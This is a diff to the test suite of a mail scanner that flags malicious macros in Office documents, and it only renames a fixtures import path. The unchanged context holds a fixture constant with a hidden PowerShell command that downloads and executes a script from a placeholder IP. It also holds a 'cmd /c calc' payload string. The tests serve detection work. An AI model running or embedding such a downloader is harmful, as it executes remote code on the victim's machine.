@@ -14,7 +14,7 @@ from cases import with_attachment
 from mailcheck.analyzers.office import doc_stores, vba_fold, vba_traits
 from mailcheck.api import scan_bytes
 from mailcheck.model import Finding, ScanResult
-from tools.office_fixtures import build_doc, build_docm, build_vba_project, build_xlsm
+from testkit.office import build_doc, build_docm, build_vba_project, build_xlsm
 
 DOWNLOADER = "powershell -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"
 URL = "hxxp://203[.]0[.]113[.]9/a.ps1"
@@ -363,7 +363,7 @@ MACRO_FORMATS = ("ole2-word", "ole2-excel", "ooxml-docm", "ooxml-xlsm", "ooxml-x
 
 
 def _real_macro_documents() -> list[tuple[dict[str, str], bytes]]:
-    from tools import maldocs
+    from testkit import maldocs
 
     if not (maldocs.MALDOCS / "index.csv").is_file():
         pytest.skip("../shared/corpus/maldocs is absent (a clone without the shared corpus)")
@@ -371,7 +371,7 @@ def _real_macro_documents() -> list[tuple[dict[str, str], bytes]]:
 
 
 def test_every_real_macro_document_is_malicious_and_shows_its_urls() -> None:
-    from tools import maldocs
+    from testkit import maldocs
 
     verdicts: dict[str, str] = {}
     urls: dict[str, list[str]] = {}
@@ -467,7 +467,7 @@ def test_a_textbox_in_an_ooxml_document_holds_the_command() -> None:
 
 
 def test_custom_properties_of_a_binary_document() -> None:
-    from tools.office_fixtures import custom_property_set
+    from testkit.office import custom_property_set
 
     stream = custom_property_set({"Payload": "cmd /c calc", "Owner": "Finance"})
     assert list(doc_stores.custom_properties(stream)) == [
